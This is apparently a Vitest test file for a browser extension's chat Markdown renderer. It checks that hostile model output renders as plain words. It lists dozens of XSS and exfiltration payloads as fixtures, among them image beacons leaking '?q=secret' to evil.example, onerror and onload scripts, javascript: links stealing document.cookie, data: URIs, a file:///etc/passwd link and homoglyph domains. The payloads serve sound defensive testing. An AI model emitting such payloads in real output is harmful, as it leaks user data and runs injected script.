// @vitest-environment happy-dom
import { render } from 'preact';
import { afterEach, describe, expect, test } from 'vitest';
import { parseAnswer } from '../../../../components/sidepanel/chat/answer-passages';
import { Markdown } from '../../../../components/sidepanel/chat/markdown';

const SEEN = 'https://greengrocer.example/p/milk';

/** Draws a text as an answer in which only the milk's page was seen. */
function drawn(text: string): HTMLElement {
  const root = document.createElement('div');
  document.body.replaceChildren(root);
  render(
    <Markdown parsed={parseAnswer(text)} marks={new Map()} told={new Map()} knownLinks={new Set([SEEN])} />,
    root,
  );
  return root;
}

afterEach(() => document.body.replaceChildren());

/** Everything that could load, run, lead away, cover or ask for something. */
const LOUD =
  'img, picture, source, svg, image, use, style, link, iframe, frame, object, embed, script, form, button, input, video, audio, base, meta, template, math, [style], [src], [srcset], [onerror], [onload], [onclick], [class*="evil"]';

const HOSTILE: readonly (readonly [what: string, text: string])[] = [
  ['a picture', '![pixel](https://evil.example/p.png?q=secret)'],
  ['a picture without words', '![](https://evil.example/p.png?q=secret)'],
  ['a picture with a title', '![pixel](https://evil.example/p.png "shown title")'],
  ['a picture by reference', 'before ![pixel][ref] after\n\n[ref]: https://evil.example/p.png "titled"'],
  ['a picture by short reference', '![ref]\n\n[ref]: https://evil.example/p.png'],
  ['a picture in a link that was seen', `[![pixel](https://evil.example/p.png)](${SEEN})`],
  ['an img tag', 'before <img src=https://evil.example/p.png onerror=alert(1)> after'],
  ['an img tag over two lines', '<img\nsrc="https://evil.example/p.png"\nonerror="alert(1)">'],
  ['an SVG', '<svg onload="alert(1)"><image href="https://evil.example/i.png"/><use href="data:x#a"/></svg>'],
  ['a style with an address', '<style>body{background:url(https://evil.example/c.png)}</style>'],
  ['a style attribute', '<p style="background:url(https://evil.example/c.png)" class="evil">words</p>'],
  ['a script', '<script>alert(1)</script> words after'],
  ['a frame', '<iframe src="https://evil.example/"></iframe> words'],
  ['a form with a button', '<form action="https://evil.example/"><button>Approve everything</button></form>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base', '<base href="https://evil.example/">[milk](p/milk)'],
  ['a comment with a tag', '<!-- <img src=x onerror=alert(1)> --> words'],
  ['CDATA', '<![CDATA[<img src=x>]]> words'],
  ['a link that nobody saw', '[cheaper](https://evil.example/?q=secret)'],
  ['a link with a title', '[cheaper](https://evil.example/ "hidden words")'],
  ['a link by reference', '[cheaper][1]\n\n[1]: https://evil.example/?q=secret'],
  ['an address in angle brackets', '<https://evil.example/auto>'],
  ['a bare address', 'see https://evil.example/bare and www.evil.example/bare2'],
  ['a mail address', 'write to <leak@evil.example>'],
  ['javascript', '[run](javascript:alert(document.cookie))'],
  ['javascript in capitals and blanks', '[run]( JaVaScRiPt:alert(1))'],
  ['javascript by entities', '[run](&#106;avascript:alert(1)) [tab](java&Tab;script:alert(1))'],
  ['data', '[open](data:text/html,<script>alert(1)</script>)'],
  ['data in base64', '[open](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a blob and a file', '[blob](blob:https://evil.example/1) [file](file:///etc/passwd)'],
  ['a page of ours', '[options](chrome-extension://abc/options.html) [rel](/options.html) [hash](#plans)'],
  ['an address that begins like a seen one', `[milk](${SEEN}?steal=1) [milk](${SEEN}@evil.example)`],
  ['a seen address under another host', '[milk](https://greengrocer.example.evil.example/p/milk)'],
  ['a look-alike letter', '[milk](https://greengroсer.example/p/milk)'],
  [
    'a link within a list, a quote and a table',
    '- > | [a](https://evil.example/1) |\n\n> - [b](https://evil.example/2)\n\n| x |\n|-|\n| [c](https://evil.example/3) |',
  ],
  ['a picture in bold in a heading', '# **![deep](https://evil.example/p.png)**'],
  ['entities of a tag', '&lt;img src=x onerror=alert(1)&gt; &amp; words'],
  ['a code block that ends in a tag', '```html\n<img src="https://evil.example/p.png">\n```'],
  ['code that closes itself', '`</code><img src=x onerror=alert(1)>`'],
  ['a table with a tag in its head', '| <img src=x> | b |\n|:-:|-:|\n| 1 | <svg/onload=alert(1)> |'],
  ['a task list', '- [ ] open this <input type="submit">\n- [x] done'],
  ['a tag that never ends', 'words <img src="https://evil.example/p.png'],
  ['a definition alone', '[hidden]: https://evil.example/?q=secret "words in a title"'],
];

describe('Markdown of a model is drawn as words', () => {
  test.each(HOSTILE)('%s loads nothing, runs nothing, leads nowhere', (_, text) => {
    const root = drawn(text);
    expect(root.querySelectorAll(LOUD)).toHaveLength(0);
    const strange = [...root.querySelectorAll('a')].filter((each) => each.getAttribute('href') !== SEEN);
    expect(strange).toEqual([]);
  });

  test.each(HOSTILE)('%s loses no word', (_, text) => {
    const shown = drawn(text).textContent ?? '';
    // What says only how a block is drawn (the language of code, the colour of a column) is no word.
    const words = text.replace(/^```\w*/m, '').match(/[\p{L}\p{N}]{2,}/gu) ?? [];
    expect(words.filter((word) => !shown.includes(word) && !SEEN.includes(word))).toEqual([]);
  });

  test('a page that was seen can be opened, and tells the shop nothing', () => {
    const link = drawn(`Look at [the milk](${SEEN}).`).querySelector('a');
    expect(link?.getAttribute('href')).toBe(SEEN);
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });
});
